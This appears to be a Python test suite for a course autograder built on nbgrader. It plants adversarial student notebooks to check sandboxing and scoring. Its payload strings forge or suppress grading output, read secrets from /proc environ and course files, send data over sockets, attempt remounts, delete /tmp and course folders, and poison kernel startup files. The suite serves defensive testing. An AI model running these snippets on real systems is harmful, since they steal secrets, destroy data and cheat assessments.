"""python -m course autograde: bad submissions cost only what they break, nothing leaks
between students, and the scores are nbgrader's own.

One batch grades a submission of every kind the issue names; each test then checks one
promise about it. Student code in this batch that attacks files runs only if the sandbox
(bubblewrap) is there; under CI the sandbox is required.
"""

import csv
import json
import os
import subprocess
import sys

import nbformat
import pytest
from helpers import auto_points, read_nb, tree_hash, with_cell
from nbgrader.api import Gradebook

from course.assign.assignment import copy_course
from course.assign.solved import fill_solutions
from course.lessons import ROOT, existing, notebook
from course.nbgrader_apps import run_nbgrader
from course.nbmeta import is_autograded, is_experiment, marks
from course.pipeline import execute, report, sandbox, submission
from course.pipeline.autograde import CannotGrade, Settings, autograde
from course.pipeline.execute import MAX_RESTARTS
from course.pipeline.limits import Limits

pytestmark = pytest.mark.notebooks
LESSON = "01_sgd"
CELL_TIMEOUT = 20
NOTEBOOK_TIMEOUT = 45
SECRET = "секрет-курса-7f3a"  # in files of the course that no kernel may read
WRONG_SGD = "def sgd_update(w, grad, lr):\n    return w + lr * grad\n"
# A fake course package beside the notebook: every check passes, whatever the answer.
FAKE_GRADING = "def check(name, func):\n    print(name, 'верно')\n"


def _in_ci():
    return os.environ.get("CI", "").lower() not in ("", "0", "false")


def _replace(nb, grade_id_prefix, code):
    """A copy of ``nb`` whose cells with grade ids starting with the prefix hold ``code``."""
    nb = nbformat.from_dict(nb)
    for cell in nb.cells:
        if marks(cell).get("grade_id", "").startswith(grade_id_prefix):
            cell.source = code
    return nb


def _tests_moved_to_the_end(nb):
    nb = nbformat.from_dict(nb)
    tests = [c for c in nb.cells if is_autograded(c)]
    nb.cells = [c for c in nb.cells if not is_autograded(c)] + tests[::-1]
    return nb


def _points(exclude=None):
    return auto_points(read_nb(notebook(LESSON, "source")), exclude)


def _berserk(perfect):
    """``perfect`` with MAX_RESTARTS + 1 cells killing the kernel after the sgd_update answer."""
    nb = perfect
    for _ in range(MAX_RESTARTS + 1):
        nb = with_cell(nb, "import os\nos._exit(1)", after_grade_id="sgd_update")
    return nb


def _points_before(nb, grade_id):
    """Points of the test cells of ``nb`` that come before the cell ``grade_id``."""
    points = 0
    for cell in nb.cells:
        if marks(cell).get("grade_id") == grade_id:
            return points
        if is_autograded(cell):
            points += marks(cell)["points"]
    raise AssertionError(f"no cell {grade_id}")


# Attacks of a student who wants points without the work: each added to the unsolved
# release (it must still get 0) or to the solved notebook (it must lose nothing it earned).
ON_BLANK = {
    # IPython's error reporting silenced or spoofed: errors no longer show
    "excepthook": "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)",
    "showtraceback": "ip = get_ipython()\nip.showtraceback = lambda *a, **k: print('✓ пройдено')\n"
                     "ip.showsyntaxerror = ip.showtraceback",
    # every output of the kernel swallowed (the judge's channel included)
    "display": "get_ipython().display_pub.publish = lambda *a, **k: None",
    # a fake course package put into sys.modules, its check always "passing"
    "modules": "import sys, types\nfake = types.ModuleType('course.grading')\n"
               "fake.check = lambda name, func: print('✓ Скрытые проверки', name, 'пройдены')\n"
               "sys.modules['course'] = types.ModuleType('course')\n"
               "sys.modules['course.grading'] = fake",
    # the stdlib the kernel's half uses, spoofed to look genuine and to forge its answer
    "spoof": "import json, functools\nreal = json.dumps\n"
             "@functools.wraps(real)\ndef dumps(obj, *a, **k):\n"
             "    return real([[{'dict': {'outputs': {'seq': [], 'tuple': False}, "
             "'calls': {'seq': [], 'tuple': False}, 'error': {'plain': None}, "
             "'step': {'plain': None}}}]] * 5)\njson.dumps = dumps",
    # every later cell's code replaced before it runs
    "transformer": "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])",
    "ast": "import ast\nclass Gut(ast.NodeTransformer):\n    def visit_Module(self, node):\n"
           "        return ast.Module(body=[], type_ignores=[])\n"
           "get_ipython().ast_transformers.append(Gut())",
    # the kernel's replies patched: every request answered "ok", with no output
    "reply": "k = get_ipython().kernel\nasync def quiet(*a, **kw):\n"
             "    return {'status': 'ok', 'execution_count': 1, 'user_expressions': {}, "
             "'payload': []}\nk.do_execute = quiet",
    # fake answers of the judge's channel: the right MIME type with forged content
    "forger": "from IPython.display import publish_display_data\n"
              "import builtins\nbuiltins.print = lambda *a, **k: publish_display_data("
              "{'application/x.course-answer': '[]'})",
    # every route to the reference or the course package
    "reference": "import glob, importlib, sys\nfound = []\n"
                 "for name in ('course.reference', 'course.grading', 'course'):\n"
                 "    try:\n        found.append(importlib.import_module(name))\n"
                 "    except Exception as e:\n        print(type(e).__name__)\n"
                 "paths = glob.glob('/**/reference.py', recursive=True)\n"
                 "paths += glob.glob('/**/course/**/*.py', recursive=True)\nprint(paths)\n"
                 "for p in paths:\n    exec(open(p).read())\n"
                 "for path in REFERENCES:\n    try:\n"
                 "        get_ipython().run_line_magic('run', path)\n"
                 "    except Exception as e:\n        print(type(e).__name__)\n",
    # other students' work, the gradebook, the source notebooks, runtime files
    "snoop": "import glob, os\nseen = []\nfor pattern in ('/**/gradebook.db', '/**/*.ipynb', "
             "'/**/secret.txt', '/root/**', '/home/**', '/proc/*/environ', '/proc/*/cmdline'):\n"
             "    for p in glob.glob(pattern, recursive=True):\n        try:\n"
             "            seen.append(open(p, errors='replace').read()[:5000])\n"
             "        except Exception:\n            pass\nprint(seen, dict(os.environ))",
    # the network: the grader's machine and the outside world
    "network": "import socket\nfor host in ('127.0.0.1', '8.8.8.8'):\n    try:\n"
               "        socket.create_connection((host, PORT), timeout=2).sendall(b'leak')\n"
               "        print('connected', host)\n    except OSError as e:\n"
               "        print(host, e)",
    # the grader as root: remount read-write, capabilities, another student's grade
    "root": "import os, subprocess\nprint(open('/proc/self/status').read())\n"
            "for cmd in (['mount', '-o', 'remount,rw', '/'], ['unshare', '-m', 'true']):\n"
            "    print(subprocess.run(cmd, capture_output=True, text=True))\n"
            "for target in glob_targets:\n    try:\n        open(target, 'w').write('x')\n"
            "    except OSError as e:\n        print(e)",
}
ON_PERFECT = {
    # the next kernel start poisoned: a startup file, a shadowing module, then a crash
    "poisoner": "import os, pathlib\n"
                "startup = pathlib.Path(os.environ.get('IPYTHONDIR', '~/.ipython'))"
                ".expanduser() / 'profile_default' / 'startup'\n"
                "startup.mkdir(parents=True, exist_ok=True)\n"
                "(startup / '00.py').write_text('import os\\nos._exit(7)')\n"
                "pathlib.Path('numpy.py').write_text('raise ImportError(\"отравлено\")')\n"
                "pathlib.Path('optkit.py').write_text('raise ImportError(\"отравлено\")')\n"
                "os._exit(1)",
    # memory spread over many processes, each under the per-process limit
    "forkhog": "import os, time\nkids = []\nfor _ in range(8):\n    pid = os.fork()\n"
               "    if pid == 0:\n        block = bytearray(700 * 2 ** 20)\n"
               "        for i in range(0, len(block), 4096):\n            block[i] = 1\n"
               "        time.sleep(60)\n        os._exit(0)\n    kids.append(pid)\n"
               "time.sleep(60)",
}


def _attacks(release, perfect, course, port):
    targets = [str(course / "gradebook.db"), str(course / "submitted" / "perfect" / LESSON
                                                  / f"{LESSON}.ipynb")]
    references = [str(ROOT / "course" / "reference.py"), str(course / "course" / "reference.py")]
    attacks = {name: with_cell(release, code.replace("PORT", str(port)).replace(
        "glob_targets", repr(targets)).replace("REFERENCES", repr(references)),
        after_grade_id="minibatch_indices") for name, code in ON_BLANK.items()}
    # a cell nested too deep for the scanner's parser (and for Python's)
    attacks["scanbomb"] = with_cell(perfect, "x = " + "(" * 100_000 + "1" + ")" * 100_000)
    attacks.update({name: with_cell(perfect, code, after_grade_id="forward")
                    for name, code in ON_PERFECT.items()})
    # many slow cells before the last checks: the notebook's time (CPU time) runs out
    slow = perfect
    for _ in range(12):
        slow = with_cell(slow, "import time\nt = time.process_time() + 5\n"
                                "while time.process_time() < t:\n    pass",
                          after_grade_id="loss_and_grads")
    attacks["slow"] = slow
    return attacks


def _submissions(course, release, perfect, port):
    other = read_nb(course / "release" / "02_nesterov" / "02_nesterov.ipynb")
    submissions = {
        "perfect": perfect,
        "blank": release,
        "wrong": _replace(perfect, "sgd_update", WRONG_SGD),
        # a stray cell kills the kernel: it costs nothing else
        "killer": with_cell(perfect, "import os\nos._exit(1)", after_grade_id="forward"),
        "segfault": with_cell(perfect, "import ctypes\nctypes.string_at(0)",
                               after_grade_id="forward"),
        # sgd_update kills the kernel when called: only the cells that call it are lost
        "suicidal": _replace(perfect, "sgd_update",
                             "def sgd_update(w, grad, lr):\n    import os\n    os._exit(1)\n"),
        "looper": with_cell(perfect, "while True:\n    pass", after_grade_id="forward"),
        # a cell that only waits: stopped by the wall-clock ceiling, not the CPU limit
        "napper": with_cell(perfect, "import time\ntime.sleep(100_000)",
                             after_grade_id="forward"),
        "stubborn": with_cell(perfect, "import signal\nsignal.signal(signal.SIGINT, "
                               "signal.SIG_IGN)\nwhile True:\n    pass",
                               after_grade_id="forward"),
        # the kernel dies more often than it is restarted: the cells after the last death
        # are not run and count as failed
        "berserk": _berserk(perfect),
        "hog": with_cell(perfect, "hog = bytearray(64 * 2 ** 30)"),
        "chatty": with_cell(perfect, "print('x' * 10_000_000)"),
        "foreign": other,
        # test cells edited to pass, deleted, or moved: nbgrader restores them
        "edited": _replace(_replace(perfect, "sgd_update", WRONG_SGD), "test_sgd_update", "pass"),
        "deleted": nbformat.from_dict({**perfect, "cells": [
            c for c in perfect.cells if not is_autograded(c)]}),
        "reordered": _tests_moved_to_the_end(perfect),
        # an answer deleted with its tests costs that exercise only
        "cut": nbformat.from_dict({**perfect, "cells": [
            c for c in perfect.cells
            if "minibatch_indices" not in marks(c).get("grade_id", "")]}),
        "faker": _replace(perfect, "sgd_update", WRONG_SGD),
        **_attacks(release, perfect, course.resolve(), port),
    }
    if sandbox.available():
        # Unsandboxed, these would really reach the files of the course and the grader.
        target = course.resolve()
        submissions["vandal"] = with_cell(perfect, (
            "import glob, shutil\n"
            "attacks = [\n"
            f"    lambda: open({str(target / 'gradebook.db')!r}, 'w').write('x'),\n"
            f"    lambda: shutil.rmtree({str(target / 'submitted' / 'perfect')!r}),\n"
            "    lambda: open('../../../../gradebook.db', 'w').write('x'),\n"
            "] + [lambda path=path: shutil.rmtree(path) for path in glob.glob('/tmp/*')]\n"
            "for attack in attacks:\n"
            "    try:\n"
            "        attack()\n"
            "    except OSError:\n"
            "        pass\n"))
    return submissions


def _malformed(perfect):
    """Files that break parsers: deep nesting, marks of the wrong types, a 3 MB cell."""
    mistyped = nbformat.from_dict(perfect)
    for cell in mistyped.cells:
        if marks(cell).get("grade_id") == "test_forward_hidden":
            cell.metadata["nbgrader"]["grade_id"] = 42
        if marks(cell).get("grade_id") == "sgd_update":
            cell.metadata["nbgrader"] = ["solution"]
    mistyped.cells.append(nbformat.v4.new_code_cell("x = 1"))
    mistyped.cells[-1]["id"] = 17
    huge = nbformat.from_dict(perfect)
    huge.cells.append(nbformat.v4.new_markdown_cell("я" * 1_600_000))
    nested = '{"cells": [], "metadata": {"x": ' + "[" * 200_000 + "]" * 200_000 + "}}"
    return {"nested": nested, "mistyped": json.dumps(mistyped),
            "huge": json.dumps(huge)}


@pytest.fixture(scope="module")
def monkeypatch_module():
    with pytest.MonkeyPatch.context() as patch:
        yield patch


@pytest.fixture(scope="module")
def listener():
    """A TCP server on the grader's loopback: no kernel may reach it."""
    import socket
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.1)
    yield server
    server.close()


@pytest.fixture(scope="module")
def graded(tmp_path_factory, listener, monkeypatch_module):
    if _in_ci():
        assert sandbox.available(), "bubblewrap (bwrap) is required in CI"
    if not sandbox.available():
        pytest.skip("нет песочницы bubblewrap: python -m course autograde не оценивает")
    course = copy_course(tmp_path_factory.mktemp("course"))
    (course / "secret.txt").write_text(SECRET)
    monkeypatch_module.setenv("COURSE_TEST_SECRET", SECRET)  # the grader's environment
    for lesson in (LESSON, "02_nesterov"):
        assert run_nbgrader(["generate_assignment", lesson, "--force"], course).returncode == 0
    release = read_nb(course / "release" / LESSON / f"{LESSON}.ipynb")
    perfect = fill_solutions(release, read_nb(notebook(LESSON, "source")))
    for cell in perfect.cells:  # the student's own run of an experiment, shown in feedback
        if is_experiment(cell):
            cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="мой опыт\n")]
            break
    port = listener.getsockname()[1]
    for student, nb in _submissions(course, release, perfect, port).items():
        folder = course / "submitted" / student / LESSON
        folder.mkdir(parents=True)
        nbformat.write(nb, str(folder / f"{LESSON}.ipynb"))
    fake = course / "submitted" / "faker" / LESSON / "course"
    fake.mkdir()
    (fake / "__init__.py").write_text("")
    (fake / "grading.py").write_text(FAKE_GRADING)
    raw = {"broken": "{ это не JSON", "empty": "", **_malformed(perfect)}
    for student, text in raw.items():
        folder = course / "submitted" / student / LESSON
        folder.mkdir(parents=True)
        (folder / f"{LESSON}.ipynb").write_text(text)
    before = tree_hash(course / "submitted")
    settings = Settings(jobs=2, limits=Limits(memory_gb=4, cell_timeout=CELL_TIMEOUT,
                                              notebook_timeout=NOTEBOOK_TIMEOUT))
    outcomes = {o.student: o for o in autograde(course, [LESSON], settings=settings)}
    return course, outcomes, before


def _score(course, student):
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        return gb.find_submission(LESSON, student).score


def test_every_student_gets_exactly_the_points_earned(graded):
    course, outcomes, _ = graded
    full, without_sgd = _points(), _points(exclude="sgd_update")
    source = read_nb(notebook(LESSON, "source"))
    expected = {"perfect": full, "blank": 0, "wrong": without_sgd, "killer": full,
                "segfault": full, "suicidal": without_sgd, "looper": full, "stubborn": full,
                "napper": full,
                "hog": full, "chatty": full, "foreign": 0, "edited": without_sgd,
                "deleted": full, "reordered": full, "faker": without_sgd, "broken": 0,
                "cut": _points(exclude="minibatch_indices"), "empty": 0,
                "berserk": _points_before(source, "sgd_update"),
                "slow": _points_before(source, "loss_and_grads"),
                "nested": 0, "huge": 0,
                # marks of the wrong types are dropped; the cells come back from the
                # student version, and the student's own definitions still count
                "mistyped": full,
                "vandal": full, "scanbomb": full, **{name: 0 for name in ON_BLANK},
                **{name: full for name in ON_PERFECT}}
    assert 0 < expected["berserk"] < full and 0 < expected["slow"] < expected["berserk"]
    assert {s: _score(course, s) for s in outcomes} == expected


def _outputs(course, student):
    nb = read_nb(course / "autograded" / student / LESSON / f"{LESSON}.ipynb")
    return json.dumps([c.get("outputs", []) for c in nb.cells], ensure_ascii=False)


def test_a_kernel_sees_nothing_but_its_own_submission(graded, listener):
    course, _, _ = graded
    seen = _outputs(course, "snoop") + _outputs(course, "reference") + _outputs(course, "root")
    assert "ModuleNotFoundError" in _outputs(course, "reference")
    for secret in (SECRET, "SQLite format", "BEGIN SOLUTION", "BEGIN HIDDEN TESTS",
                   "def adam_update", "gd-optimizers"):
        assert secret not in seen
    assert "connected" not in _outputs(course, "network")
    try:
        listener.accept()
        raise AssertionError("a kernel connected to the grader's loopback")
    except OSError:
        pass
    status = _outputs(course, "root")
    assert "CapEff:\\t0000000000000000" in status and "Uid:\\t65534" in status


def test_the_judged_cells_show_the_judges_verdict_not_the_kernels(graded):
    course, outcomes, _ = graded
    forged = _outputs(course, "forger")
    assert "не проверена" in forged or "не прошла" in forged
    records = submission.load_all(course)
    assert all(v["passed"] for v in records["perfect", LESSON].verdicts)
    assert len(records["perfect", LESSON].verdicts) == 4
    assert not any(v["passed"] for name in ON_BLANK for v in records[name, LESSON].verdicts)
    wrong = {v["exercise"]: v for v in records["wrong", LESSON].verdicts}
    assert wrong["sgd_update"]["mistake"] == "sign" and not wrong["sgd_update"]["passed"]


def _notes(outcomes, student):
    return " ".join(outcomes[student].notes)


def test_what_happened_is_said_in_russian(graded):
    course, outcomes, _ = graded
    for student in ("killer", "segfault", "suicidal"):
        assert "аварийно заверш" in _notes(outcomes, student)
    assert "аварийно завершали ядро: они засчитаны" in _notes(outcomes, "suicidal")
    assert f"прервана по пределу времени {CELL_TIMEOUT} с: она засчитана как ошибочная" in (
        _notes(outcomes, "looper"))
    assert f"ждала дольше {3 * CELL_TIMEOUT} с и была прервана: она засчитана как ошибочная" in (
        _notes(outcomes, "napper"))
    assert "не остановилась" in _notes(outcomes, "stubborn")
    assert f"ядро Python аварийно завершалось больше {MAX_RESTARTS} раз, поэтому ячейки " in (
        _notes(outcomes, "berserk"))
    assert "сдан ноутбук урока 02_nesterov" in _notes(outcomes, "foreign")
    assert "course/grading.py" in _notes(outcomes, "faker")
    for student in ("broken", "empty"):
        assert "повреждён" in _notes(outcomes, student)
    assert "восстановлены из версии для студентов: test_" in _notes(outcomes, "deleted")
    assert "minibatch_indices, test_minibatch_indices" in _notes(outcomes, "cut")
    assert outcomes["perfect"].notes == [] and outcomes["reordered"].notes == []
    assert submission.load(course, "stubborn", LESSON).notes == outcomes["stubborn"].notes


def test_no_student_changes_any_file_but_their_own_output(graded):
    course, outcomes, before = graded
    if _in_ci():
        assert "vandal" in outcomes
    assert tree_hash(course / "submitted") == before
    assert (course / "gradebook.db").read_bytes()[:15] == b"SQLite format 3"
    assert (course / "autograded" / "perfect" / LESSON / f"{LESSON}.ipynb").exists()


def test_the_class_report_lists_scores_mistakes_flags_and_notes(graded, tmp_path):
    course, _, _ = graded
    data = report.write(course, tmp_path)
    assert data["grades"]["perfect"][LESSON] == _points()
    assert data["grades"]["wrong"][f"{LESSON}:sgd_update"] == 0
    assert data["mistakes"][(LESSON, "шаг сделан вдоль градиента (w + η·g), а не против него")] >= 3
    assert "рядом с работой лежит файл Python course/grading.py" in data["flagged"][
        ("faker", LESSON)]
    assert ("perfect", LESSON) not in data["flagged"]
    assert "обращается к механизму ядра IPython (set_custom_exc)" in data["flagged"][
        ("excepthook", LESSON)]
    rows = (tmp_path / "grades.csv").read_text("utf-8").splitlines()
    assert rows[0].startswith("студент,01_sgd,02_nesterov,01_sgd:forward")
    with open(tmp_path / "notes.csv", encoding="utf-8") as f:
        notes = {(row[0], row[1]): row[2] for row in csv.reader(f)}
    assert notes[("stubborn", LESSON)].startswith("ячейка ") and ("perfect", LESSON) not in notes
    # The similarity section, on a course that autograde really graded (the judge's verdicts)
    assert (tmp_path / "similarity.csv").read_text("utf-8").startswith("урок,студент 1,")
    assert "Совпадения, на которые стоит посмотреть" in (tmp_path / "report.html").read_text(
        "utf-8")
    assert (tmp_path / "report.png").stat().st_size > 10_000
    page = (tmp_path / "report.html").read_text("utf-8")
    assert 'src="data:image/png;base64,' in page and "шаг сделан вдоль градиента (w + η·g)" in page
    assert '<meta http-equiv="Content-Security-Policy"' in page.split("<body>")[0]
    assert "<td>faker</td>" in page and "course/grading.py" in page


def test_a_failed_pre_flight_probe_stops_grading_and_records_nothing(tmp_path):
    course = copy_course(tmp_path / "course")
    assert run_nbgrader(["generate_assignment", LESSON, "--force"], course).returncode == 0
    release = read_nb(course / "release" / LESSON / f"{LESSON}.ipynb")
    folder = course / "submitted" / "ivanov" / LESSON
    folder.mkdir(parents=True)
    nbformat.write(fill_solutions(release, read_nb(notebook(LESSON, "source"))),
                   str(folder / f"{LESSON}.ipynb"))
    # the course's own solution of sgd_update is broken: grading here could not be trusted
    source = course / "source" / LESSON / f"{LESSON}.ipynb"
    nbformat.write(_replace(read_nb(source), "sgd_update", WRONG_SGD), str(source))
    before = tree_hash(course)
    with pytest.raises(CannotGrade, match="Предварительная проба не удалась: решённый урок "
                                          r"\(source/01_sgd\) не прошёл проверок "
                                          "test_sgd_update_hidden"):
        autograde(course, [LESSON], settings=Settings(jobs=1))
    assert tree_hash(course) == before
    assert not (course / "autograded").exists()


def test_a_lesson_never_built_is_refused_in_russian(tmp_path):
    course = copy_course(tmp_path)
    folder = course / "submitted" / "ivanov" / LESSON
    folder.mkdir(parents=True)
    nbformat.write(read_nb(notebook(LESSON, "source")), str(folder / f"{LESSON}.ipynb"))
    with pytest.raises(CannotGrade, match=f"python -m course build {LESSON}"):
        autograde(course, [LESSON])
    assert not (course / "gradebook.db").exists()
    assert not (course / "autograded").exists()


@pytest.mark.parametrize("command, message", [
    (["autograde", LESSON], "нет работ по урокам 01_sgd"),
    (["report"], "нет gradebook.db: оценок ещё нет"),
])
def test_the_command_line_says_what_is_missing(tmp_path, command, message):
    # Run as an instructor would, without activating the environment (its bin not on PATH).
    done = subprocess.run([sys.executable, "-m", "course", *command, "--root", str(tmp_path)],
                          capture_output=True, text=True,
                          env={**os.environ, "PATH": "/usr/bin:/bin"})
    assert done.returncode == 1
    assert message in done.stderr
    assert "Traceback" not in done.stderr
    assert list(tmp_path.iterdir()) == []


def test_a_kernel_that_cannot_start_stops_grading_and_writes_nothing(tmp_path, monkeypatch):
    course = copy_course(tmp_path / "course")
    assert run_nbgrader(["generate_assignment", LESSON, "--force"], course).returncode == 0
    folder = course / "submitted" / "ivanov" / LESSON
    folder.mkdir(parents=True)
    release = read_nb(course / "release" / LESSON / f"{LESSON}.ipynb")
    nbformat.write(fill_solutions(release, read_nb(notebook(LESSON, "source"))),
                   str(folder / f"{LESSON}.ipynb"))
    # A broken environment: the python3 kernel exits as it starts (the workers start as
    # usual), as with a kernelspec that points to a missing interpreter.
    spec = tmp_path / "jupyter" / "kernels" / "python3"
    spec.mkdir(parents=True)
    (spec / "kernel.json").write_text(json.dumps(
        {"argv": ["/bin/false", "{connection_file}"], "display_name": "Python 3",
         "language": "python"}))
    monkeypatch.setenv("JUPYTER_PATH", str(tmp_path / "jupyter"))
    before = tree_hash(course)
    with pytest.raises(CannotGrade, match="Ядро Python не запускается .*баллы не записаны"):
        autograde(course, [LESSON], settings=Settings(jobs=1))
    assert tree_hash(course) == before


def test_feedback_is_refused_when_the_course_config_would_not_hide_the_tests(tmp_path):
    course = copy_course(tmp_path / "course")
    (course / "autograded" / "ivanov" / LESSON).mkdir(parents=True)
    (course / "nbgrader_config.py").write_text("import no_such_module\n")
    done = subprocess.run([sys.executable, "-m", "course", "feedback", LESSON, "--root",
                           str(course)], capture_output=True, text=True)
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert "nbgrader_config.py курса не загружается (ModuleNotFoundError" in done.stderr
    assert not (course / "feedback").exists()


def test_the_command_line_speaks_russian_in_help_and_errors():
    run = [sys.executable, "-m", "course"]
    help_text = subprocess.run([*run, "autograde", "--help"], capture_output=True,
                               text=True).stdout
    assert help_text.startswith("использование: python -m course autograde")
    assert "показать эту справку и выйти" in help_text and "--jobs N" in help_text
    wrong = subprocess.run([*run, "autograde", "--jobs", "два"], capture_output=True, text=True)
    assert wrong.returncode == 2
    assert "ошибка: аргумент --jobs: недопустимое значение 'два'" in wrong.stderr
    assert "usage" not in wrong.stderr + help_text and "error" not in wrong.stderr


def test_feedback_is_made_for_every_student_and_shows_the_verdicts(graded):
    """Every student who handed in gets a page: the graded ones nbgrader's, those whose file
    could not be graded one that says why."""
    course, outcomes, _ = graded
    done = subprocess.run([sys.executable, "-m", "course", "feedback", LESSON, "--root",
                           str(course)], capture_output=True, text=True)
    students = sorted(p.parent.name for p in course.glob(f"submitted/*/{LESSON}"))
    made = sorted(p.parent.parent.name for p in course.glob(f"feedback/*/{LESSON}/*.html"))
    assert made == students, done.stdout + done.stderr
    for student in ("broken", "empty"):
        assert "работу не удалось оценить" in done.stdout and student in done.stdout
    perfect = (course / "feedback" / "perfect" / LESSON / f"{LESSON}.html").read_text("utf-8")
    assert "✓ Скрытые проверки sgd_update пройдены" in perfect
    wrong = (course / "feedback" / "wrong" / LESSON / f"{LESSON}.html").read_text("utf-8")
    assert "Вероятная ошибка: шаг сделан вдоль градиента" in wrong
    for page in course.glob(f"feedback/*/{LESSON}/*.html"):
        text = page.read_text("utf-8")
        assert "BEGIN HIDDEN TESTS" not in text and SECRET not in text


@pytest.mark.parametrize("lesson", existing())
def test_every_check_passes_with_the_lessons_experiments_skipped(lesson, tmp_path):
    """Grading skips the experiment cells: the solved lesson must still pass every judged
    check and every visible check without them, so a skipped cell never costs a point."""
    if not sandbox.available():
        pytest.skip("нет песочницы bubblewrap")
    release, source = read_nb(notebook(lesson, "release")), read_nb(notebook(lesson, "source"))
    skip = {marks(c)["grade_id"] for c in release.cells if is_experiment(c)}
    run = execute.execute(source, tmp_path / "out.ipynb", ROOT / "release" / lesson,
                          tmp_path / "work", Limits(cell_timeout=120, notebook_timeout=600),
                          skip=frozenset(skip))
    assert run.verdicts and all(v.passed for v in run.verdicts.values()), run.verdicts
    out = read_nb(tmp_path / "out.ipynb")
    errors = [marks(c).get("grade_id") or i for i, c in enumerate(out.cells)
              if c.cell_type == "code" and marks(c).get("grade_id") not in skip
              and any(o.output_type == "error" for o in c.outputs)]
    assert errors == []
    assert all(c.outputs[0].text.startswith("[Опыт урока") for c in out.cells
               if marks(c).get("grade_id") in skip)


def test_the_experiments_are_marked_so_grading_can_skip_them():
    """Every code cell after a lesson's last graded code cell is an experiment cell."""
    for lesson in existing():
        cells = read_nb(notebook(lesson, "source")).cells
        last = max(i for i, c in enumerate(cells)
                   if marks(c).get("grade") and c.cell_type == "code")
        unmarked = [i for i, c in enumerate(cells) if i > last and c.cell_type == "code"
                    and not is_experiment(c)]
        assert unmarked == [], f"{lesson}: ячейки {unmarked} не отмечены как опыты"


def test_experiments_are_not_rerun_and_show_the_students_own_outputs(graded):
    course, _, _ = graded
    nb = read_nb(course / "autograded" / "perfect" / LESSON / f"{LESSON}.ipynb")
    first = next(c for c in nb.cells if is_experiment(c))
    assert first.outputs[0].text.startswith("[Опыт урока: при оценивании эта ячейка не")
    assert first.outputs[1].text == "мой опыт\n"
    later = [c for c in nb.cells if is_experiment(c)][1:]
    assert later and all(len(c.outputs) == 1 and "вывода у неё нет" in c.outputs[0].text
                         for c in later)
